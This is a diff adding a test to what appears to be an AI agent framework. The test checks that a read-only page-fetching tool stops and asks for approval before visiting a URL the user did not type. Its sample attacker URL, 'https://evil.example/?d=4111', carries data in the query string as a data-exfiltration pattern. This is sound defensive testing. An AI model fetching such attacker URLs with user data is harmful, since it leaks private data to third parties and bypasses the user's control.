@@ -216,6 +216,26 @@ def test_a_recipient_has_to_be_the_user_s_before_anything_is_sent_that_was_read(
     )
 
 
+def test_who_only_reads_is_asked_before_a_url_is_looked_at_that_the_user_did_not_type(
+    tmp_path: Path,
+) -> None:
+    looked: list[str] = []
+
+    @tool(effect="read")
+    async def look(page: str = "") -> str:
+        """Look at a page."""
+        looked.append(page)
+        return "…"
+
+    typed, evil = "https://bob.example/today", "https://evil.example/?d=4111"
+    office = Office(f"sqlite:///{tmp_path}/jackline.db", search, look)
+    calls = [call("look", page=page) for page in (typed, "today", evil)]
+    _, events = asyncio.run(office.run([call("search")], calls, "Done.", said=f"Look at {typed}."))
+    assert looked == [typed, "today"]
+    (asked,) = of(events, e.InputRequested)
+    assert (verdict(asked).tier, asked.arguments) == ("origin", f'{{"page":"{evil}"}}')
+
+
 def test_who_declares_that_anybody_may_decide_is_not_asked_about_it(tmp_path: Path) -> None:
     sent: list[str] = []
     send = sending(sent, critical={"to": From("user"), "body": endorse("a person reads it")})
